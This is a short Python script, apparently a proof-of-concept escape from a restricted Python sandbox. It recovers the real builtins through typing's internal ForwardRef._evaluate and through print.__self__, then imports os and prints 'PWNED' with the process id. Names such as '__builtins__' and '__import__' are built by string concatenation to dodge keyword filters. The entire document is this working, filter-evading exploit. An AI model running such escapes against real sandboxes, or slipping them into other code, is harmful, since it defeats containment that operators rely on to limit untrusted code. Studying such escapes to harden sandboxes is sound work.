# door: print.__self__ is the builtins module too; dataclasses.builtins by a computed name
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import dataclasses
b1 = ga(print, "__se" + "lf__")
b2 = ga(dataclasses, "built" + "ins")
o = ga(b1, "__imp" + "ort__")("o" + "s")
if b1 is b2:
    print(M, o.getpid())
